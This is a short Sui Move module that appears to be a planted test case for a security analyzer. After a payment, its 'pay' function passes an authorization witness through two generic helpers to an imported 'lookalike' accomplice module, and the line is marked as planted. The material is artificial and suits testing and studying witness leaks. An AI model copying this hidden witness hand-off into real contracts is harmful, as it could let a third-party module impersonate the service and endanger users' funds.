module hostile::witness_through_two_generics;

use accomplice::wallet as lookalike;
use sui::balance::{Self, Balance};
use sui::clock::Clock;
use sui::sui::SUI;
use wallet::intent;
use wallet::wallet::Wallet;

public struct Service has drop {}

public struct Jar has key { id: UID, money: Balance<SUI> }

fun init(ctx: &mut TxContext) {
    transfer::share_object(Jar { id: object::new(ctx), money: balance::zero() })
}

public fun pay(wallet: &mut Wallet, jar: &mut Jar, amount: u64, clock: &Clock, ctx: &mut TxContext) {
    let recipient = object::id_address(jar);
    let request = intent::request_payment<_, SUI>(Service {}, amount, recipient);
    let (coin, witness) = intent::validate_and_pay(wallet, request, clock, ctx);
    jar.money.join(coin.into_balance());
    intent::verify_and_clear(wallet, witness, intent::create_receipt_sig(Service {}, amount, recipient));
    announce(Service {}); //! planted
}

fun announce<W: drop>(witness: W) { hand_on(witness) }

fun hand_on<W: drop>(witness: W) { lookalike::register(witness); }
